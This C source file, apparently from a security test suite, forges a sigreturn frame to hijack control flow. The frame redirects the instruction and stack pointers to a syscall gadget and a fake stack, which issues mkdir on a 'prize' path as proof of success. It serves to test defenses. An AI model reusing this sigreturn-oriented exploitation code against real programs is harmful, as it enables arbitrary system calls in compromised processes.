// SPDX-License-Identifier: LGPL-2.1-or-later
#define _GNU_SOURCE
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>

#include "attack.h"
#include "pivot.h"
#include "sigframe.h"

static ucontext_t learned;

static void learn(int signal, siginfo_t *info, void *context)
{
	(void)signal;
	(void)info;
	memcpy(&learned, context, sizeof(learned));
}

void learn_frame(void)
{
	struct sigaction action = { .sa_sigaction = learn,
				    .sa_flags = SA_SIGINFO };

	expect(!sigaction(SIGUSR1, &action, NULL) && !raise(SIGUSR1));
	/* Without state of the FPU it is reset, which does no harm here. */
	learned.uc_mcontext.fpregs = NULL;
	learned.uc_flags &= ~1UL;
}

/* Behind the instruction is a return, to what is then on the stack. */
void aim(ucontext_t *uc)
{
	greg_t *gregs = uc->uc_mcontext.gregs;
	unsigned long *stack = fake_stack() + 256;

	stack[0] = word(landing);
	gregs[REG_RIP] = (long)good->insn;
	gregs[REG_RSP] = (long)stack;
	gregs[REG_RAX] = SYS_mkdir;
	gregs[REG_RDI] = (long)PRIZE;
	gregs[REG_RSI] = 0700;
}

long forged_sigreturn(ucontext_t *at)
{
	static ucontext_t frame;

	if (!at)
		at = &frame;
	memcpy(at, &learned, sizeof(learned));
	aim(at);
	return pivot(sigreturn_insn, at, NULL, 0, 0, NULL);
}

/* Nothing else that is a system call comes between the two instructions. */
#define CALL_AND_TRAP(nr)                                            \
	__asm__ volatile("mov %0, %%eax\n\tsyscall\n\tud2" ::"i"(nr) \
			 : "rax", "rcx", "r11", "memory")

void signal_after_getuid(void)
{
	CALL_AND_TRAP(SYS_getuid);
}

void signal_after_getppid(void)
{
	CALL_AND_TRAP(SYS_getppid);
}
